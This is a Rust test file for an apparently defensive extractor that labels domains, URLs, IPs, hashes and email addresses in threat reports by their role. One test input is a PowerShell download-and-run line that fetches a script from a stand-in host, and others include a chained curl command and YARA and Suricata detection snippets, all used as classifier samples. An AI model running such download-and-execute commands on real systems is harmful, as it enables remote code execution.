//! Which role a value has in a sentence, a list or a table.

use lapwing_knowledge::Knowledge;
use lapwing_model::{Claim, Document, Format, Reading, Region, RegionKind, Role, Span};

use crate::Extractor;

fn values(reading: &Reading) -> Vec<Claim> {
    let knowledge = Knowledge::default();
    Extractor::with_names(&knowledge, &[]).values(reading)
}

fn reading(text: &str) -> Reading {
    Reading::new(Document::new(b"", "a.txt", Format::Text, text.into()), Vec::new())
}

/// The strongest mention of `value` in `text`: kind and role.
fn told(text: &str, value: &str) -> String {
    values(&reading(text))
        .into_iter()
        .find(|c| c.subject.value == value)
        .map_or_else(|| "nothing".to_owned(), |c| format!("{} {}", c.subject.kind, c.object))
}

#[track_caller]
fn assert_told(cases: &[(&str, &str, &str)]) {
    for (text, value, expected) in cases {
        assert_eq!(told(text, value), *expected, "{value} in {text:?}");
    }
}

#[test]
fn words_beside_a_value_tell_its_role() {
    assert_told(&[
        (
            "The implant beacons to reed.marsh-a.org daily.",
            "reed.marsh-a.org",
            "domain-name indicator",
        ),
        (
            "Stage two is downloaded from http://reed.marsh-a.org/x.bin today.",
            "http://reed.marsh-a.org/x.bin",
            "url indicator",
        ),
        ("See http://reed.marsh-a.org/x for more.", "http://reed.marsh-a.org/x", "url reference"),
        (
            "According to reed.marsh-a.org the group is old.",
            "reed.marsh-a.org",
            "domain-name reference",
        ),
        (
            "It uses a C2 server. The vendor runs reed.marsh-a.org too.",
            "reed.marsh-a.org",
            "domain-name unclear",
        ),
        (
            "C2 servers such as reed.marsh-a.org answer.",
            "reed.marsh-a.org",
            "domain-name indicator",
        ),
        (
            "Legitimate sites such as reed.marsh-a.org answer.",
            "reed.marsh-a.org",
            "domain-name benign",
        ),
        (
            "The host reed.marsh-a.org was used as a C2 server.",
            "reed.marsh-a.org",
            "domain-name indicator",
        ),
        (
            "They broke into the victim's domain reed.marsh-a.org first.",
            "reed.marsh-a.org",
            "domain-name victim",
        ),
        (
            "The page redirects victims to reed.marsh-a.org at once.",
            "reed.marsh-a.org",
            "domain-name indicator",
        ),
        (
            "It contacts a.marsh-a.org, b.marsh-a.org, c.marsh-a.org and reed.marsh-a.org.",
            "reed.marsh-a.org",
            "domain-name indicator",
        ),
    ]);
}

#[test]
fn a_service_is_told_from_what_is_put_there() {
    assert_told(&[
        (
            "It downloads from https://pastebin.com/raw/Ab12 first.",
            "https://pastebin.com/raw/Ab12",
            "url indicator",
        ),
        (
            "hxxps://cdn.discordapp[.]com/attachments/1/2/a.zip",
            "https://cdn.discordapp.com/attachments/1/2/a.zip",
            "url indicator",
        ),
        ("The implant connects to api.telegram.org then.", "api.telegram.org", "domain-name tool"),
        ("The strings name pastebin[.]com and more.", "pastebin.com", "domain-name tool"),
        ("People like pastebin.com a lot.", "pastebin.com", "domain-name benign"),
        (
            "The scanner is on https://github.com/marsh/scan for free.",
            "https://github.com/marsh/scan",
            "url reference",
        ),
    ]);
}

#[test]
fn hosts_are_told_from_files_and_code() {
    assert_told(&[
        ("Unpack payload.zip by hand.", "payload.zip", "file:name unclear"),
        ("The domain marsh.zip was registered.", "marsh.zip", "domain-name unclear"),
        ("The name marsh.zip resolves to it.", "marsh.zip", "domain-name unclear"),
        ("It beacons to marsh.py now.", "marsh.py", "domain-name indicator"),
        ("The site drops marsh.py on it.", "marsh.py", "file:name indicator"),
        ("The attachment invoice.pdf.zip holds it.", "invoice.pdf.zip", "file:name indicator"),
        ("It calls document.location.host there.", "document.location.host", "domain-name unclear"),
        (
            "It wants com.marsh.lapwing.app to run.",
            "package=com.marsh.lapwing.app",
            "other unclear",
        ),
        ("Written with Json.NET inside.", "Json.NET", "software subject"),
        ("Scanners call it Win32/Marsh.BG now.", "marsh.bg", "domain-name unclear"),
        ("The page ?country.it stands there.", "country.it", "domain-name unclear"),
        (
            "A scanner says Trojan.Win32.Marsh.zip to it.",
            "trojan.win32.marsh.zip",
            "domain-name unclear",
        ),
    ]);
}

#[test]
fn numbers_are_told_apart() {
    assert_told(&[
        ("As § 2.3.4.5 says", "section=2.3.4.5", "other benign"),
        ("Exchange 15.2.79.3 is old", "version=15.2.79.3", "other benign"),
        ("The C2 server 1.2.3.4 answers", "1.2.3.4", "ipv4-addr indicator"),
        ("Fixed is 10.0.0.9 and later", "version=10.0.0.9", "other benign"),
        ("Version 4.10.0.3", "version=4.10.0.3", "other benign"),
        ("They cracked Marsh Player 3.2.0.1 too", "version=3.2.0.1", "other benign"),
        ("IP 5.6.7.8 scanned it", "5.6.7.8", "ipv4-addr indicator"),
        ("traffic from 5.6.7.8 was seen", "5.6.7.8", "ipv4-addr indicator"),
    ]);
}

#[test]
fn a_digest_of_something_else_is_no_file() {
    let hash = "356a192b7913b04c54574d18c28d46e6395428ab";
    for (text, expected) in [
        (format!("## Samples\n{hash}\n"), "file:sha1 indicator"),
        (format!("## Certificates\n- {hash}\n"), "x509-certificate indicator"),
        (format!("The commit {hash} fixed it."), "file:sha1 reference"),
        (format!("It was signed, thumbprint {hash}, in May."), "x509-certificate indicator"),
        (format!("The AES key is {hash} in both."), "file:sha1 unclear"),
        (format!("x.sys {hash} Win64/Marsh.A Legitimate driver"), "file:sha1 indicator"),
        (format!("loader.exe {hash} Clean file"), "file:sha1 tool"),
        (format!("x.dll {hash} loaded by legitimate x.exe"), "file:sha1 indicator"),
        (format!("x.dll {hash} trojanized legitimate installer"), "file:sha1 indicator"),
        (format!("## Legitimate tools\n{hash}\n"), "file:sha1 tool"),
    ] {
        assert_eq!(told(&text, hash), expected, "{text}");
    }
}

#[test]
fn one_place_speaks_for_the_others() {
    let text = "The name reed.marsh-a.org is old.\n\n## Indicators\n- reed.marsh-a.org\n";
    let all = values(&reading(text));
    assert!(all.iter().all(|c| c.role() == Some(Role::Indicator)), "{all:?}");
    assert!(all[0].why.as_deref().is_some_and(|why| why.starts_with("elsewhere")));
    let text = "They call marsh-news.org good. See https://marsh-news.org/a for it.";
    assert_eq!(told(text, "marsh-news.org"), "domain-name reference");
}

#[test]
fn columns_speak_for_their_cells_only() {
    let text = "198.51.100.7 7.1.2.3 reed.marsh-a.org\nWe had seen after.marsh-a.org last year.\n";
    let mut reading = reading(text);
    let cell = |from: usize, to: usize, column: u32, header: &str| Region {
        span: Span::new(from, to),
        kind: RegionKind::Cell { row: 0, column, header: Some(header.into()) },
    };
    reading.regions =
        vec![cell(0, 12, 0, "C2"), cell(13, 20, 1, "Version"), cell(21, 37, 2, "Victim")];
    let roles: Vec<_> =
        values(&reading).iter().map(|c| format!("{} {}", c.subject.value, c.object)).collect();
    assert_eq!(
        roles,
        [
            "198.51.100.7 indicator",
            "version=7.1.2.3 benign",
            "reed.marsh-a.org victim",
            "after.marsh-a.org unclear"
        ]
    );
}

#[test]
fn rules_and_code_tell_what_they_look_for_and_what_they_cite() {
    assert_told(&[
        ("$s1 = \"reed.marsh-a.org\" wide", "reed.marsh-a.org", "domain-name indicator"),
        (
            "alert tls $HOME_NET any -> any any (msg:\"x\"; tls.sni; content:\"reed.marsh-a.org\"; sid:1;)",
            "reed.marsh-a.org",
            "domain-name indicator",
        ),
        (
            "alert tls any any -> any any (msg:\"x\"; reference:url,reed.marsh-b.org/a; sid:1;)",
            "reed.marsh-b.org/a",
            "url reference",
        ),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://reed.marsh-a.org/x.ps1')",
            "http://reed.marsh-a.org/x.ps1",
            "url indicator",
        ),
        ("x = CreateObject(\"WScript.Shell\")", "wscript.shell", "domain-name unclear"),
        (
            "Type=\"http://schemas.openxmlformats.org/x/y\"",
            "http://schemas.openxmlformats.org/x/y",
            "url benign",
        ),
        ("curl http://198.18.7.7/a&&timeout 10", "http://198.18.7.7/a", "url benign"),
    ]);
}

#[test]
fn a_link_whose_host_is_accused_is_accused() {
    let text =
        "It beacons to reed.marsh-a.org daily.\n\nThe page http://reed.marsh-a.org/x was up.";
    assert_eq!(told(text, "http://reed.marsh-a.org/x"), "url indicator");
}

#[test]
fn mail_addresses_are_of_those_who_got_mail_or_of_those_to_ask() {
    assert_told(&[
        (
            "The phishing mail was delivered to ann@marsh-a.org at noon.",
            "ann@marsh-a.org",
            "email-addr victim",
        ),
        (
            "# For questions please contact ann [at] marsh-a.org",
            "ann@marsh-a.org",
            "email-addr reference",
        ),
        ("发件人邮箱：ann@marsh-a.org", "ann@marsh-a.org", "email-addr unclear"),
        ("- iocs.csv and marsh.yar hold them", "iocs.csv", "file:name reference"),
        (
            "run('c:\\\\users\\\\public\\\\1.vbs')",
            "c:\\users\\public\\1.vbs",
            "file:path indicator",
        ),
    ]);
}
